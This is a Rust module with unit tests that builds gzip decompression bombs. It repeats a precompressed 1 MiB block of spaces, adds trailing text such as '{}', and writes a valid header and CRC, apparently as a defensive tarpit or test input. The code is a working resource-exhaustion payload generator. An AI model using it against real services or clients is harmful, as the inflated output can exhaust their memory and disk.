//! Gzip bombs (RFC 1952), cheap to build.

use std::sync::LazyLock;

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

/// The size of a compressed piece of blanks. The piece is compressed once per process.
const PIECE: usize = 1 << 20;

/// A compressed piece and its checksum. The piece ends at a byte boundary and refers to no earlier
/// data, so that it can be repeated.
static BLANKS: LazyLock<(Vec<u8>, Crc)> = LazyLock::new(|| {
    let plain = vec![b' '; PIECE];
    let mut crc = Crc::new();
    crc.update(&plain);
    (deflate(&plain, FlushCompress::Full), crc)
});

/// Returns the blanks and the text as one gzip member.
pub(crate) fn bomb(blanks: u64, text: &[u8]) -> Bytes {
    let (piece, piece_crc) = &*BLANKS;
    let mut crc = Crc::new();
    // The gzip header: deflate, no flags, no time, unknown operating system.
    let mut gzip = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    for _ in 0..blanks / PIECE as u64 {
        gzip.extend_from_slice(piece);
        crc.combine(piece_crc);
    }
    let mut rest = vec![b' '; (blanks % PIECE as u64) as usize];
    rest.extend_from_slice(text);
    gzip.extend(deflate(&rest, FlushCompress::Finish));
    crc.update(&rest);
    gzip.extend(crc.sum().to_le_bytes());
    gzip.extend(crc.amount().to_le_bytes());
    Bytes::from(gzip)
}

fn deflate(plain: &[u8], flush: FlushCompress) -> Vec<u8> {
    let mut encoder = Compress::new(Compression::fast(), false);
    // Incompressible data grows by a few bytes per block of some kilobytes. With this spare
    // capacity, one call suffices.
    let mut packed = Vec::with_capacity(plain.len() + plain.len() / 64 + 1024);
    encoder
        .compress_vec(plain, &mut packed, flush)
        .expect("compression in memory cannot fail");
    packed
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use flate2::read::GzDecoder;

    use super::*;

    #[test]
    fn gzip_unpacks_to_blanks_and_text() {
        let piece = PIECE as u64;
        for blanks in [0, 1, piece - 1, piece, 3 * piece + 7] {
            let packed = bomb(blanks, b"{}");
            let mut plain = Vec::new();
            // The decoder checks length and checksum.
            GzDecoder::new(&packed[..]).read_to_end(&mut plain).unwrap();
            let (padding, text) = plain.split_at(blanks as usize);
            assert!(padding.iter().all(|byte| *byte == b' '));
            assert_eq!(text, b"{}");
        }
    }

    #[test]
    fn gzip_bomb_is_small() {
        let packed = bomb(64 * PIECE as u64, b"{}");
        assert!(packed.len() < 1 << 20, "{}", packed.len());
    }
}
